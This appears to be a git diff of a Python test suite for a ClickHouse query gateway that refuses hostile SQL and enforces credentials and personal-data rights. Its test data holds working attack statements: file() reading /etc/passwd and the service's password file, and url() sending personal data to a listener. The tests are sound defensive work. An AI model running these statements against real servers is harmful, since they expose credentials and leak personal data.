@@ -2,9 +2,11 @@
 tables, by the engine's own parse of the statement: table functions that reach files,
 URLs, other servers or programs; writes, KILL, SYSTEM, SET and SETTINGS; output clauses;
 more than one statement; personal tables however they are named. Each attack goes in
-three ways (the embedded reader, the sink's endpoint, `ravao sql FILE.sql`), is refused
-with a message that names what and why, leaves nothing on disk, sends nothing to a
-listener, and leaves the engine taking writes."""
+three ways (the embedded reader, the sink's door with clickhouse-connect's HTTP client,
+`ravao sql FILE.sql`), is refused with a message that names what and why, leaves nothing
+on disk, sends nothing to a listener, and leaves the engine taking writes. The door also
+refuses wrong credentials, settings in the URL, and personal queries to accounts without
+that right."""
 
 from __future__ import annotations
 
@@ -22,11 +24,13 @@ from conftest import run_cli
 from pipeline.cli.warehouse import sql as sql_command
 from pipeline.settings import Settings
 from pipeline.sink.endpoint import Endpoint
-from pipeline.warehouse import WarehouseError, open_warehouse
+from pipeline.sink.state import read_state
+from pipeline.warehouse import Warehouse, WarehouseError, open_warehouse
+from pipeline.warehouse.client import chdb_url
 from pipeline.warehouse.connect import running_sink
 from pipeline.warehouse.door import Refused, read_settings
-from pipeline.warehouse.embedded import EmbeddedWarehouse, open_embedded
 from pipeline.warehouse.migrations import migrate
+from pipeline.warehouse.opened import open_url
 from schemas import PersonalData, ValidScan
 
 PERSON = "P" + "B" * 14
@@ -66,7 +70,7 @@ class Listener:
 
 
 class Door:
-    def __init__(self, settings: Settings, warehouse: EmbeddedWarehouse, listener: Listener, tmp: Path) -> None:
+    def __init__(self, settings: Settings, warehouse: Warehouse, listener: Listener, tmp: Path) -> None:
         self.settings, self.warehouse, self.listener, self.tmp = settings, warehouse, listener, tmp
         self.batches = itertools.count()
 
@@ -86,11 +90,12 @@ def door(tmp_path_factory: pytest.TempPathFactory):
     tmp = tmp_path_factory.mktemp("door")
     settings = Settings(data_dir=tmp / "data", clickhouse_url=None, sink_port=0)
     limits = read_settings(TIMEOUT_SECONDS, 1000, 1024 * 1024, 256 * 1024 ** 2)
-    warehouse = open_embedded(settings.warehouse_dir, limits)
+    warehouse = open_url(chdb_url(settings.warehouse_dir), limits)
     migrate(warehouse, 30)
     warehouse.insert_json("personal_data", PersonalData(person_id=PERSON, full_name="Trần Thị Bình",
                                                         phone="0981234791", id_number="012345678901").to_bytes())
     endpoint = Endpoint(warehouse, settings.data_dir, 0)
+    endpoint.accounts.add("analyst", "analyst-password", personal=False)
     endpoint.start()
     listener = Listener()
     try:
@@ -102,10 +107,10 @@ def door(tmp_path_factory: pytest.TempPathFactory):
 
 
 # (what, the statement, what the refusal must say). {tmp}: a folder nothing may be written
-# to; {url} and {port}: the listener; {data}: RAVAO_DATA_DIR, with the sink's token in it.
+# to; {url} and {port}: the listener; {data}: RAVAO_DATA_DIR, with the door's passwords in it.
 ATTACKS = [
     ("file() reads /etc/passwd", "SELECT * FROM file('/etc/passwd', 'LineAsString')", "table function file()"),
-    ("file() reads the sink's token", "SELECT * FROM file('{data}/sink.json', 'JSONAsString')", "file()"),
+    ("file() reads the door's passwords", "SELECT * FROM file('{data}/sink.json', 'JSONAsString')", "file()"),
     ("file() as a scalar function", "SELECT file('/etc/passwd')", "file()"),
     ("url() sends personal data", "SELECT * FROM url('{url}/leak?who=Bình', 'CSV', 'a String')", "url()"),
     ("INSERT INTO FUNCTION url() posts names",
@@ -270,14 +275,82 @@ def test_limits_stop_a_read_and_the_next_read_gets_its_own_answer(door: Door) ->
     door.write_still_succeeds()
 
 
-def test_personal_data_comes_only_through_its_named_query_with_the_doors_audit_row(door: Door) -> None:
+def test_personal_data_comes_only_through_its_named_query(door: Door) -> None:
     with pytest.raises(Refused, match="not a query that may read personal data"):
         door.warehouse.read_personal("person_visits", {"person": PERSON}, action="x", subject=PERSON, detail={})
     read = door.warehouse.read_personal("personal_data_of", {"persons": [PERSON]}, action="trace_with_names",
                                         subject=PERSON, detail={})
     assert read.dicts()[0]["phone"] == "0981234791"
-    trail = door.warehouse.read_personal("audit_trail", {}, action="audit_trail", subject="", detail={})
-    assert ("trace_with_names", PERSON) in {(row[2], row[3]) for row in trail.rows}
+    through = running_sink(door.settings)
+    assert through.read_personal("personal_data_of", {"persons": [PERSON]}, action="trace_with_names",
+                                 subject=PERSON, detail={}).dicts()[0]["phone"] == "0981234791"
+
+
+def test_the_door_knows_a_personal_query_by_its_parse_and_serves_it_only_to_accounts_with_the_right(
+        door: Door) -> None:
+    from pipeline.warehouse.queries import load
+
+    state = read_state(door.settings.data_dir)
+    text = load("personal_data_of").sql
+    lines = [line.split("--")[0] for line in text.splitlines()]
+    respelled = "/* the same question */ " + " ".join(" ".join(lines).split()).replace("SELECT", "select", 1)
+    for account in ("admin", "web", "alerts"):
+        with open_url(state.url_for(account), door_is_remote=True) as reader:
+            assert reader.query(respelled, {"persons": [PERSON]}).dicts()[0]["full_name"] == "Trần Thị Bình"
+    analyst = f"http://analyst:analyst-password@127.0.0.1:{state.port}/default"
+    with open_url(analyst, door_is_remote=True) as reader:
+        assert reader.query("SELECT count() FROM scans").scalar() >= 0  # non-personal reads: yes
+        with pytest.raises(Refused, match="personal_data_of reads personal data, which analyst may not read"):
+            reader.query(respelled, {"persons": [PERSON]})
+        with pytest.raises(Refused, match="holds personal data"):  # a personal table by any other query
+            reader.query("SELECT full_name FROM personal_data WHERE person_id IN {persons:Array(String)}",
+                         {"persons": [PERSON]})
+    door.write_still_succeeds()
+
+
+def test_wrong_or_missing_credentials_get_authentication_failed_and_never_a_read(door: Door) -> None:
+    import urllib.error
+    import urllib.request
+
+    state = read_state(door.settings.data_dir)
+    for url in (f"http://admin:guessed@127.0.0.1:{state.port}/default", f"http://127.0.0.1:{state.port}/default",
+                f"http://nobody:{state.passwords['admin']}@127.0.0.1:{state.port}/default"):
+        with pytest.raises(WarehouseError, match="AUTHENTICATION_FAILED|Authentication failed"):
+            open_url(url, door_is_remote=True)
+    for headers in ({}, {"X-ClickHouse-User": "web", "X-ClickHouse-Key": "guessed"}):
+        request = urllib.request.Request(f"{state.url}/?query=SELECT%20count()%20FROM%20scans", headers=headers)
+        with pytest.raises(urllib.error.HTTPError) as refused:
+            urllib.request.urlopen(request, timeout=10)
+        assert refused.value.code == 401 and refused.value.headers["X-ClickHouse-Exception-Code"] == "516"
+        assert refused.value.read().startswith(b"Code: 516. DB::Exception: ")
+    # The other ways ClickHouse takes credentials: headers, URL arguments.
+    good = urllib.request.Request(f"{state.url}/?query=SELECT%201", headers={
+        "X-ClickHouse-User": "web", "X-ClickHouse-Key": state.passwords["web"]})
+    assert urllib.request.urlopen(good, timeout=10).read() == b"1\n"
+    from urllib.parse import urlencode
+    query = urlencode({"query": "SELECT 2 FORMAT CSV", "user": "alerts", "password": state.passwords["alerts"]})
+    assert urllib.request.urlopen(f"{state.url}/?{query}", timeout=10).read() == b"2\n"
+    door.write_still_succeeds()
+
+
+@pytest.mark.parametrize("setting, value", [("readonly", "0"), ("readonly", "2"), ("max_execution_time", "0"),
+                                            ("max_result_rows", "0"), ("max_memory_usage", "0")])
+def test_a_setting_in_the_url_that_would_change_the_doors_is_refused(door: Door, setting: str, value: str) -> None:
+    import clickhouse_connect
+    from clickhouse_connect.driver.exceptions import DatabaseError
+
+    state = read_state(door.settings.data_dir)
+    client = clickhouse_connect.get_client(dsn=state.url_for("admin"), autogenerate_session_id=False, compress=False)
+    try:
+        client._backend.params[setting] = value  # as a client that does not ask system.settings sends it
+        with pytest.raises(DatabaseError, match="READONLY|readonly mode"):
+            client.query("SELECT count() FROM scans")
+        client._backend.params["readonly"] = "1"  # the door's own value: ignored, as a readonly=1 server does
+        del client._backend.params[setting]
+        assert client.query("SELECT 41 + 1").result_rows == [(42,)]
+    finally:
+        client.close()
+    door.write_still_succeeds()
 
 
 def test_ravao_sql_runs_a_read_from_a_file_and_names_from_the_library(door: Door, monkeypatch, capsys) -> None:
